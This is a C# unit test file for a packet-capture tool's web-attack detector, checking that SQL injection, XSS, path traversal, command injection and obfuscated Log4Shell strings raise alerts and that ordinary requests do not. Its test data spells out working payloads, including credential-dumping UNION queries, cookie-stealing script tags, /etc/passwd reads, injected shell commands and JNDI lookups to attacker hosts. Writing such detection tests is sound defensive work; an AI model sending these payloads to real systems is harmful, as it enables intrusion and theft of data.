using PcapLab.Detect;
using PcapLab.Detect.Rules;

namespace PcapLab.Engine.Tests.Detect;

public sealed class WebAttackRuleTests
{
    private const string Attacker = "127.66.0.6", Server = "127.10.0.1", Client = "127.20.0.1";

    [Theory]
    [InlineData("sql_injection", "/item?id=1%27%20OR%20%271%27%3D%271")]
    [InlineData("sql_injection", "/item?id=1+UNION+ALL+SELECT+username,password+FROM+users--")]
    [InlineData("sql_injection", "/item?id=1%2527%2520or%25201%253D1--")] // double-encoded
    [InlineData("sql_injection", "/search?q=x%27;WAITFOR%20DELAY%20%270:0:5%27--")]
    [InlineData("xss", "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E")]
    [InlineData("xss", "/search?q=%3Cimg%20src=x%20onerror=alert(1)%3E")]
    [InlineData("xss", "/r?next=JaVaScRiPt:alert(1)")]
    [InlineData("path_traversal", "/static/..%2f..%2f..%2fetc%2fpasswd")]
    [InlineData("path_traversal", "/download?file=....//....//etc/passwd")]
    [InlineData("path_traversal", "/download?file=%252e%252e%252f%252e%252e%252fwindows%252fwin.ini")]
    [InlineData("path_traversal", "/view?page=/etc/passwd")]
    [InlineData("command_injection", "/ping?host=127.0.0.1%3Bcat%20/etc/passwd")]
    [InlineData("command_injection", "/ping?host=127.0.0.1|id")]
    [InlineData("command_injection", "/ping?host=%24(whoami)")]
    [InlineData("log4shell", "/?x=${jndi:ldap://127.66.0.6:1389/a}")]
    [InlineData("log4shell", "/?x=%24%7B%24%7Blower%3Aj%7Dndi%3Aldap%3A%2F%2Fevil%2Fa%7D")]
    [InlineData("log4shell", "/?x=${${::-j}${::-n}${::-d}${::-i}:rmi://evil/a}")]
    public void PayloadInTheUriRaisesItsClass(string rule, string uri)
    {
        using var d = new DetectDb();
        d.Http(1, Attacker, Server, "GET", uri, 404);
        d.Detect();
        var a = Assert.Single(d.Alerts(rule));
        Assert.Equal(("MALICIOUS", Attacker, Server, 0.8), (a.Severity, a.Src, a.Dst, a.Score));
        Assert.All(d.Alerts(), x => Assert.Equal("MALICIOUS", x.Severity)); // e.g. ";cat /etc/passwd" is also a traversal target
    }

    [Fact]
    public void BodyAndUserAgentAreInspectedAndSuccessRaisesTheScore()
    {
        using var d = new DetectDb();
        d.Http(1, Attacker, Server, "POST", "/login", 200, body: "username=admin%27--&password=x");
        d.Http(2, Attacker, Server, "GET", "/", 200, userAgent: "${jndi:ldap://127.66.0.6/x}");
        d.Http(3, Attacker, Server, "GET", "/", 200, userAgent: "curl/8.0", referrer: "http://x/?q=<script>alert(1)</script>");
        d.Detect();
        var sqli = Assert.Single(d.Alerts("sql_injection"));
        Assert.Equal(1.0, sqli.Score);
        Assert.Contains("first in body: POST username=admin'--&password=x", sqli.Summary);
        Assert.Contains("first in user-agent", Assert.Single(d.Alerts("log4shell")).Summary);
        Assert.Contains("first in referer", Assert.Single(d.Alerts("xss")).Summary);
    }

    [Fact]
    public void RequestsGroupPerClassSourceAndServer()
    {
        using var d = new DetectDb();
        for (int i = 0; i < 25; i++) d.Http(i * 0.1, Attacker, Server, "GET", $"/item?id={i}%27%20or%201=1--", 500);
        d.Detect();
        var a = Assert.Single(d.Alerts("sql_injection"));
        Assert.StartsWith("25 request(s) with SQL injection", a.Summary);
        Assert.Equal(25, a.FlowIds.Length);
    }

    [Theory]
    [InlineData("/search?q=rock+and+roll&page=2&sort=desc")]
    [InlineData("/products?id=42&category=books;jsessionid=ABC123")]
    [InlineData("/api/items?filter=price%3E10%20and%20price%3C20")]
    [InlineData("/blog/2024/03/o'brien-interview.html")]
    [InlineData("/docs/select-a-plan-from-the-list")]
    [InlineData("/static/js/app.min.js?v=3.2.1")]
    [InlineData("/img/../logo.png")]
    [InlineData("/wiki/Union_Pacific_Railroad?action=select")]
    [InlineData("/q?tags=c%23,f%23,.net")]
    [InlineData("/redirect?url=https%3A%2F%2Fexample.com%2Fpath%3Fa%3D1%26b%3D2")]
    public void OrdinaryRequestsAreNotAttacks(string uri)
    {
        using var d = new DetectDb();
        d.Http(1, Client, Server, "GET", uri, 200);
        d.Http(2, Client, Server, "POST", "/api/items", 201, body: """{"name":"Bob's order","qty":2,"note":"deliver & sign"}""");
        d.AssertQuiet();
    }

    [Fact]
    public void SqlLookingValuesAreDataNotSql()
    {
        using var d = new DetectDb();
        // Values that would break a query built by string concatenation: quotes, semicolons, DuckDB syntax, $1.
        string[] evil = ["'); DROP TABLE alerts; --", "x' || (SELECT 1) || '", "$1", "{}{:.1f}%s%n", "\"; DELETE FROM flows; --\u0007"];
        for (int i = 0; i < evil.Length; i++) d.Http(i, Attacker, Server, "GET", "/q?x=" + evil[i], 400, userAgent: evil[i], body: evil[i]);
        d.Detect();
        Assert.Equal(5, d.Db.Scalar<long>("SELECT count(*) FROM http"));
        Assert.Equal(5, d.Db.Scalar<long>("SELECT count(*) FROM flows"));
        var a = Assert.Single(d.Alerts("sql_injection"));
        Assert.Contains("first in uri: GET /q?x='); DROP TABLE alerts; --", a.Summary); // stored verbatim, as data
        Assert.DoesNotContain('\u0007', string.Concat(d.Alerts().Select(x => x.Summary)));
    }

    [Fact]
    public void LookupResolutionUnwrapsNestedForms()
    {
        Assert.Equal("${jndi:ldap://x}", WebAttackPatterns.ResolveLookups("${${lower:j}${upper:n}${env:NOPE:-d}${::-i}:ldap://x}"));
        Assert.Equal(["%2541", "%41", "A"], WebAttackPatterns.Decodings("%2541", 3).ToArray());
        Assert.Equal(["%2541", "%41"], WebAttackPatterns.Decodings("%2541", 1).ToArray());
    }

    [Fact]
    public void DisabledClassRaisesNothing()
    {
        using var d = new DetectDb();
        d.Http(1, Attacker, Server, "GET", "/item?id=1%27%20or%20%271%27=%271", 200);
        d.Detect(DetectionRules.Parse("web_attack:\n  sql_injection: false\n"));
        Assert.Empty(d.Alerts());
    }
}
